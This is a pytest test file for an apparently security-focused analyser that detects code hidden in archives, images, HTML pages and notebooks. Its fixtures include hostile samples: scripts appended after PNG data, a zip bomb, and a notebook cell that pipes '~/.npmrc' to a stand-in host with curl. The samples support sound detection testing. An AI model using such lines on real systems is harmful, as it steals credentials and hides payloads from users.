"""What stands inside a file: archives, pages, notebooks, payloads; read in place, and bounded."""

import bz2
import gzip
import io
import json
import lzma
import tarfile
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lazaretto._plugins import discover
from lazaretto.core.facts import Fact, Facts, Kind
from lazaretto.core.inner import MAX_COST, MAX_DEPTH, named, read_through, version_of
from lazaretto.core.language import NoUnits
from lazaretto.infra._reader import language_table
from tests.languages.test_binary import PNG

MODULES = discover("lazaretto.languages", ("ID", "VERSION", "DIALECTS", "claim", "read"))
TABLE = language_table(MODULES)
SCRIPT = b"require('child_process').exec('whoami');\n"
PYTHON = b"import os\nos.system('whoami')\n"


def read(path: str, data: bytes) -> Facts:
    """Claim a file as the analyser does, and read it with all that stands inside it."""
    offers = [offer for module in MODULES if (offer := module.claim(path, data)) is not None]
    return read_through(TABLE, max(offers, key=lambda offer: offer.rank).dialect, data, NoUnits())


def spawns(facts: Facts) -> list[Fact]:
    """Return the processes that are started."""
    return [fact for fact in facts.facts if fact.kind is Kind.PROCESS_SPAWN]


def zipped(**members: bytes) -> bytes:
    """Return a zip archive; ``__`` in a name stands for a dot."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name.replace("__", ".")), data)
    return out.getvalue()


def tarred(name: str, data: bytes, mode: str = "") -> bytes:
    """Return a tar archive of one file."""
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode=f"w:{mode}") as archive:  # type: ignore[call-overload]
        info = tarfile.TarInfo(name)
        info.size = len(data)
        archive.addfile(info, io.BytesIO(data))
    return out.getvalue()


@pytest.mark.parametrize(
    ("path", "data", "via"),
    [
        ("a.zip", zipped(run__js=SCRIPT), "archive[run.js]"),
        ("a.whl", zipped(run__py=PYTHON), "archive[run.py]"),
        ("a.tar", tarred("x/run.py", PYTHON), "archive[x/run.py]"),
        ("a.tgz", tarred("x/run.py", PYTHON, "gz"), "archive[x/run.py]"),
        ("a.tar.bz2", tarred("x/run.py", PYTHON, "bz2"), "archive[x/run.py]"),
        ("a.tar.xz", tarred("x/run.py", PYTHON, "xz"), "archive[x/run.py]"),
        ("a.js.gz", gzip.compress(SCRIPT), "archive[member]"),
        ("a.bz2", bz2.compress(PYTHON), "archive[member]"),
        ("a.xz", lzma.compress(PYTHON), "archive[member]"),
        ("a.zip", zipped(b__zip=zipped(run__js=SCRIPT)), "archive[b.zip]>archive[run.js]"),
        ("a.png", PNG + SCRIPT, "trailing-data"),
        ("a.png", PNG + PYTHON, "trailing-data"),
        ("a.png", PNG + zipped(run__js=SCRIPT), "trailing-data>archive[run.js]"),
    ],
)
def test_members_are_read_as_what_they_are(path: str, data: bytes, via: str) -> None:
    """A member of an archive, or what follows a picture, does what it does; ``via`` says where it stood."""
    facts = read(path, data)

    assert facts.complete
    assert [(fact.value, fact.via) for fact in spawns(facts)] == [("whoami", via)]


def test_members_load_nothing_of_the_package() -> None:
    """An import inside an archive leads to no file beside the archive."""
    assert all(fact.kind is not Kind.IMPORT for fact in read("a.zip", zipped(run__py=PYTHON)).facts)


@pytest.mark.parametrize(
    "data",
    [
        zipped(run__js=SCRIPT)[:-10],
        gzip.compress(SCRIPT)[:-9],
        lzma.compress(SCRIPT)[:-9],
        bz2.compress(SCRIPT)[:-9],
        gzip.compress(bytes(70 << 20)),
        zipped(b=zipped(c=zipped(d=zipped(e__zip=zipped(run__js=SCRIPT))))),
    ],
)
def test_what_cannot_be_opened_is_told(data: bytes) -> None:
    """A broken archive, a bomb, and archives that are nested too deeply are problems."""
    assert not read("a.zip", data).complete


@pytest.mark.parametrize("data", [zipped(run__js=SCRIPT)[:-10], zipped(bad__json=b"{" + b"x" * 40)])
def test_what_is_broken_for_a_test(data: bytes) -> None:
    """In a folder of tests broken archives stand in good faith; what can be read of them is."""
    assert read("tests/data/a.zip", data).complete
    assert spawns(read("tests/data/a.zip", zipped(run__js=SCRIPT)))


def test_a_member_that_is_not_understood_is_told_by_name() -> None:
    """What is a problem outside of an archive is one inside."""
    assert [problem.reason[:9] for problem in read("a.zip", zipped(bad__json=b"{" + b"x" * 40)).problems] == [
        "bad.json:"
    ]


def test_scripts_of_a_page_stand_where_they_stand() -> None:
    """Elements, attributes and addresses are read as JavaScript, at their place; data and templates are not."""
    page = (
        b"<!doctype html>\n<p>don't read this</p>\n<script>\nfetch('https://one.example.invalid/')\n</script>\n"
        b"<script type='application/json'>{\"fetch\": 1}</script>\n"
        b"<script lang='ts'>const a: string = 'x'; fetch('https://two.example.invalid/' as string)</script>\n"
        b"<body onload=\"fetch('https://three.example.invalid/')\">\n"
        b"<a href='javascript:fetch(\"https://four.example.invalid/\")'>x</a>\n" + b" " * 300 + b"<p>\n"
    )
    facts = read("index.html", page)
    found = {fact.value: fact for fact in facts.facts if fact.kind is Kind.NET_CONNECT}

    assert facts.complete
    assert sorted(value or "" for value in found) == [
        f"https://{name}.example.invalid/" for name in ("four", "one", "three", "two")
    ]
    for value, fact in found.items():
        assert page[fact.span.start : fact.span.end].startswith(b"fetch(")
        assert (value or "").encode() in page.split(b"\n")[fact.span.line - 1]
    assert all(fact.kind is not Kind.HIDDEN_TEXT for fact in facts.facts)


def test_a_template_is_no_problem() -> None:
    """Where a page is filled in later, its script is no script yet."""
    assert read("a.html", b"<script>{% if x %} let y = {{ z }; {% endif %}</script>").complete


@pytest.mark.parametrize("indent", [None, 1])
@pytest.mark.parametrize("lines", [True, False])
def test_cells_of_a_notebook(indent: int | None, lines: bool) -> None:
    """Code is read in the language of the notebook, commands as a shell's, each at the line that holds it."""
    code = ["import os\n", "!curl https://one.example.invalid/x\n", "%matplotlib inline\n", "os.system('whoami')"]
    shell = ["%%bash\n", "cat ~/.npmrc | curl -d @- https://two.example.invalid"]
    cells = [
        {"cell_type": "markdown", "source": ["os.system('no')"]},
        *({"cell_type": "code", "source": one if lines else "".join(one)} for one in (code, shell)),
    ]
    document = {"cells": cells, "metadata": {"kernelspec": {"language": "python"}}, "nbformat": 4}
    data = json.dumps(document, indent=indent).encode()
    facts = read("a.ipynb", data)

    assert facts.complete
    assert [fact.value for fact in spawns(facts)] == [
        "curl https://one.example.invalid/x",
        "cat ~/.npmrc",
        "curl -d @- https://two.example.invalid",
        "whoami",
    ]
    for fact in spawns(facts):
        assert (fact.value or "").split()[-1].encode() in data[fact.span.start : fact.span.end]


@pytest.mark.parametrize(
    "document",
    [
        b"",
        b"{",
        b"[]",
        b'{"cells": 1}',
        b'{"cells": [1, {"cell_type": "code"}]}',
        b'{"metadata": {"language_info": 1}}',
    ],
)
def test_odd_notebooks(document: bytes) -> None:
    """Whether a notebook is one is nobody's problem."""
    assert read("a.ipynb", document).complete


def test_code_inside_is_bounded() -> None:
    """More code than a file may hold inside is a problem; text and data are cheap."""
    script = b"let a = 1;\n" * (MAX_COST // 22)

    assert not read("a.zip", zipped(a__js=script, b__js=script + b"1", c__js=script + b"2")).complete
    assert read("a.zip", zipped(a__txt=script, b__txt=script + b"1", c__txt=script + b"2")).complete


def test_versions_count_what_reads_the_parts() -> None:
    """The facts of a page change with the reader of JavaScript, those of a language without parts with itself alone."""
    assert version_of(TABLE, "elf") == TABLE["elf"].VERSION
    assert version_of(TABLE, "markup") > 100_000 * TABLE["markup"].VERSION


def test_names_of_parts_are_inert() -> None:
    """A name of a member cannot forge a step of a chain, or leave its line."""
    assert named("a>b\n\x1b[1m") == "a?b??[1m"
    assert named("") == "?"
    assert len(named("x" * 500)) == 120
    assert MAX_DEPTH == 3


@settings(max_examples=150, deadline=None)
@given(data=st.data())
def test_mutated_containers(data: st.DataObject) -> None:
    """Whatever becomes of an archive, a page or a notebook: the same facts twice, within the file, nothing raised."""
    path, sample = data.draw(
        st.sampled_from(
            [
                ("a.zip", zipped(run__js=SCRIPT, b__zip=zipped(run__py=PYTHON))),
                ("a.tgz", tarred("x/run.py", PYTHON, "gz")),
                ("a.xz", lzma.compress(PYTHON)),
                ("a.png", PNG + SCRIPT),
                ("a.html", b"<script>fetch('x')</script><p onload='eval(1)'><a href=\"javascript:x()\">"),
                ("a.ipynb", b'{"cells": [{"cell_type": "code", "source": ["import os\\n", "!ls"]}]}'),
            ]
        )
    )
    found = bytearray(sample)
    for _ in range(data.draw(st.integers(1, 4))):
        at = data.draw(st.integers(0, len(found) - 1))
        found[at : at + data.draw(st.integers(0, 5))] = data.draw(st.binary(min_size=1, max_size=6))
    facts = read(path, bytes(found))

    assert read(path, bytes(found)) == facts
    assert all(0 <= fact.span.start <= fact.span.end <= len(found) for fact in facts.facts)


def test_parts_beyond_the_bound_are_told(monkeypatch: pytest.MonkeyPatch) -> None:
    """Not to understand a lenient part is no problem; not to read it is one."""
    monkeypatch.setattr("lazaretto.core.inner.MAX_PARTS", 0)

    assert read("binding.gyp", b"['<!(whoami)']").problems
    assert read("a.svg", b"<svg onload=a()>").problems
